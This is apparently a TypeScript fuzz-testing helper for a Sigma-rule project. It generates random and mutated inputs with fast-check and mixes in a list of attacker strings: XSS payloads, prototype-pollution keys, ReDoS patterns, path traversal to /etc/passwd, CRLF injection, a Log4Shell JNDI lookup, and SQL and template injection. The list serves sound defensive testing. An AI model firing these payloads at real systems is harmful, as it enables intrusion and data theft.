// The fuzzers' budget and shared generators: numRuns from SIGIL_FUZZ_RUNS (a small default keeps the
// whole fuzz set well under a minute in CI; raise it for a long local run), SIGIL_FUZZ_SEED to replay a
// failure fast-check reported, and inputs an attacker would try (script payloads, prototype keys,
// catastrophic regexes, control bytes, huge and deeply nested values) mixed into random ones.

import fc from "fast-check";
import { parse, stringify } from "yaml";

const DEFAULT_RUNS = 60;

/** Runs per property: SIGIL_FUZZ_RUNS (default 60) times `scale`, at least 1. */
export function fuzzRuns(scale = 1): number {
  const env = Number(process.env.SIGIL_FUZZ_RUNS);
  const base = Number.isFinite(env) && env > 0 ? env : DEFAULT_RUNS;
  return Math.max(1, Math.round(base * scale));
}

/** fast-check parameters: the budget, plus the seed of a reported failure when SIGIL_FUZZ_SEED is set. */
export function fuzzParams<T>(scale = 1): fc.Parameters<T> {
  const seed = Number(process.env.SIGIL_FUZZ_SEED);
  return { numRuns: fuzzRuns(scale), ...(Number.isInteger(seed) ? { seed } : {}), endOnFailure: true };
}

/** A test timeout that grows with the budget (ms): the hang guard of each fuzz property. */
export function fuzzTimeout(msPerRun: number, scale = 1): number {
  return Math.max(30_000, fuzzRuns(scale) * msPerRun);
}

/** A URL path segment or query value for any string, lone surrogates included (sent as invalid UTF-8 bytes). */
export function uriPart(s: string): string {
  try {
    return encodeURIComponent(s);
  } catch {
    return encodeURIComponent(s.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, "\ufffd")) + "%ED%A0%80";
  }
}

/** Strings an attacker writes into logs, rules, query strings and form fields. */
export const HOSTILE_STRINGS: readonly string[] = [
  "<script>window.__pwned=1</script>",
  '"><img src=x onerror=window.__pwned=1>',
  "javascript:window.__pwned=1//",
  "__proto__",
  "constructor",
  "prototype",
  "__proto__.polluted",
  "constructor.prototype.polluted",
  "(a+)+$",
  "(a|a)*b",
  "(.*a){20}",
  "^(([a-z])+.)+[A-Z]([a-z])+$",
  "a".repeat(17_000), // past the 16 KiB Sigma value and WebSocket message limits
  "a".repeat(30) + "!",
  "*".repeat(300),
  "?".repeat(300),
  "\\".repeat(101),
  "../../../../etc/passwd",
  "..\\..\\..\\windows\\win.ini",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "\u0000",
  "\u0000\u0001\u0002\u001b[31m",
  "\ud800",
  "\uffff\ufeff\u202e",
  "\r\n\r\nHTTP/1.1 200 OK",
  "${jndi:ldap://203.0.113.9/a}",
  "' OR 1=1 --",
  '" OR ""="',
  "{{7*7}}",
  "NaN",
  "Infinity",
  "-0",
  "1e309",
  "9007199254740993",
  "",
  " ",
  "中文字符🙂",
];

export const hostileString = (): fc.Arbitrary<string> => fc.constantFrom(...HOSTILE_STRINGS);

/** Any string: short random, binary-ish, hostile, or a hostile one spliced into a random one. */
export function anyString(maxLength = 200): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 3, arbitrary: fc.string({ maxLength }) },
    { weight: 2, arbitrary: hostileString() },
    { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength }) },
    { weight: 1, arbitrary: fc.tuple(fc.string({ maxLength: 20 }), hostileString(), fc.string({ maxLength: 20 })).map(([a, b, c]) => a + b + c) },
  );
}

/** A JSON-ish value with hostile keys and strings, some deeply nested or wide. */
export function hostileValue(): fc.Arbitrary<unknown> {
  const { tree } = fc.letrec((tie) => ({
    tree: fc.oneof(
      { depthSize: "small", withCrossShrink: true },
      anyString(60),
      fc.integer(),
      fc.double(),
      fc.boolean(),
      fc.constant(null),
      fc.array(tie("tree"), { maxLength: 5 }),
      fc.dictionary(fc.oneof(anyString(20), fc.constantFrom("__proto__", "constructor", "prototype")), tie("tree"), { maxKeys: 5 }),
    ),
  }));
  return fc.oneof(
    { weight: 6, arbitrary: tree },
    { weight: 1, arbitrary: fc.integer({ min: 20, max: 300 }).map((d) => nest(d)) },
    { weight: 1, arbitrary: fc.integer({ min: 100, max: 1500 }).map((n) => Array.from({ length: n }, (_, i) => `v${i}*`)) },
  );
}

/** `depth` levels of nested arrays and maps. */
export function nest(depth: number): unknown {
  let v: unknown = "leaf";
  for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { k: v };
  return v;
}

/** Text mutations of seed documents: truncation, insertion, line deletion, duplication and swaps, indentation shifts, byte flips. */
export function textMutation(seeds: readonly string[]): fc.Arbitrary<string> {
  const seed = fc.constantFrom(...(seeds.length ? seeds : ["x"]));
  const at = (s: string, n: number) => (s.length === 0 ? 0 : n % (s.length + 1));
  const lines = (s: string) => s.split("\n");
  const ops: fc.Arbitrary<string>[] = [
    fc.tuple(seed, fc.nat()).map(([s, n]) => s.slice(0, at(s, n))),
    fc.tuple(seed, fc.nat(), anyString(40)).map(([s, n, x]) => s.slice(0, at(s, n)) + x + s.slice(at(s, n))),
    fc.tuple(seed, fc.nat(), fc.constantFrom(":", "-", "|", "'", '"', "{", "}", "[", "]", "&a ", "*a", "!!", "#", "\t", "\n", "  ", "?", "%", "@", ">", "\u0000")).map(
      ([s, n, c]) => s.slice(0, at(s, n)) + c + s.slice(at(s, n)),
    ),
    fc.tuple(seed, fc.nat()).map(([s, n]) => {
      const l = lines(s);
      l.splice(n % l.length, 1);
      return l.join("\n");
    }),
    fc.tuple(seed, fc.nat(), fc.nat({ max: 50 })).map(([s, n, times]) => {
      const l = lines(s);
      const i = n % l.length;
      l.splice(i, 0, ...Array<string>(times).fill(l[i]));
      return l.join("\n");
    }),
    fc.tuple(seed, fc.nat(), fc.nat()).map(([s, a, b]) => {
      const l = lines(s);
      const i = a % l.length;
      const j = b % l.length;
      [l[i], l[j]] = [l[j], l[i]];
      return l.join("\n");
    }),
    fc.tuple(seed, fc.nat(), fc.integer({ min: -4, max: 8 })).map(([s, n, d]) => {
      const l = lines(s);
      const i = n % l.length;
      l[i] = d >= 0 ? " ".repeat(d) + l[i] : l[i].replace(new RegExp(`^ {0,${-d}}`), "");
      return l.join("\n");
    }),
    fc.tuple(seed, fc.nat(), fc.integer({ min: 0, max: 255 })).map(([s, n, b]) => {
      const i = s.length ? n % s.length : 0;
      return s.slice(0, i) + String.fromCharCode(b) + s.slice(i + 1);
    }),
    fc.tuple(seed, seed, fc.nat()).map(([a, b, n]) => a.slice(0, at(a, n)) + b),
  ];
  return fc.oneof(...ops);
}

/** Structural mutations of YAML seed documents: a value replaced, a key deleted or added, a list exploded, keys swapped. */
export function yamlMutation(seeds: readonly string[]): fc.Arbitrary<string> {
  const objects = seeds.map((s) => {
    try {
      return parse(s, { uniqueKeys: false, maxAliasCount: 100 }) as unknown;
    } catch {
      return s;
    }
  });
  const pick = fc.constantFrom(...(objects.length ? objects : [{}]));
  return fc.tuple(pick, fc.array(fc.tuple(fc.nat(), fc.nat({ max: 5 }), hostileValue(), anyString(30)), { minLength: 1, maxLength: 4 })).map(([obj, edits]) => {
    let v: unknown = structuredClone(obj);
    for (const [n, op, value, key] of edits) v = mutateAt(v, n, op, value, key);
    try {
      return stringify(v, { aliasDuplicateObjects: false, lineWidth: 0 });
    } catch {
      return text(v);
    }
  });
}

/** A string for any value, even one without a prototype (which String() cannot convert). */
function text(v: unknown): string {
  try {
    return typeof v === "string" ? v : (JSON.stringify(v) ?? "");
  } catch {
    return "";
  }
}

function mutateAt(root: unknown, n: number, op: number, value: unknown, key: string): unknown {
  // every container in the document, the root first
  const containers: (Record<string, unknown> | unknown[])[] = [];
  const walk = (v: unknown) => {
    if (v !== null && typeof v === "object" && containers.length < 500) {
      containers.push(v as Record<string, unknown>);
      for (const c of Object.values(v)) walk(c);
    }
  };
  walk(root);
  if (containers.length === 0) return value;
  const c = containers[n % containers.length];
  const keys = Object.keys(c);
  const k = keys.length ? keys[n % keys.length] : key;
  const rec = c as Record<string, unknown>;
  switch (op) {
    case 0: // replace a value
      if (Array.isArray(c)) c[n % Math.max(1, c.length)] = value;
      else rec[k] = value;
      break;
    case 1: // delete a key or item
      if (Array.isArray(c)) c.splice(n % Math.max(1, c.length), 1);
      else delete rec[k];
      break;
    case 2: // add a key (possibly an unknown or hostile one)
      if (Array.isArray(c)) c.push(value);
      else Object.defineProperty(rec, key, { value, enumerable: true, writable: true, configurable: true });
      break;
    case 3: // a list becomes a scalar, a scalar a list
      if (Array.isArray(c)) rec[0] = c.length ? c : value;
      else rec[k] = Array.isArray(rec[k]) ? text(rec[k]) : [rec[k], value];
      break;
    case 4: // rename a key to a suffixed variant (Sigma modifiers, typos)
      if (!Array.isArray(c) && keys.length) {
        const suffix = ["|contains", "|all", "|re", "|base64offset|contains", "|cidr", "|windash", "|expand", "|nonsense", "|contains|all|re", "|gt", "|fieldref", "|exists", "|utf16le|base64", "|re|i|m|s", "|", "||"][n % 16];
        Object.defineProperty(rec, k + suffix, { value: rec[k], enumerable: true, writable: true, configurable: true });
        delete rec[k];
      }
      break;
    default: // duplicate a value into many
      if (!Array.isArray(c)) rec[k] = Array.from({ length: 1 + (n % 2000) }, (_, i) => `${text(rec[k]).slice(0, 40)}${i}`);
  }
  return root;
}
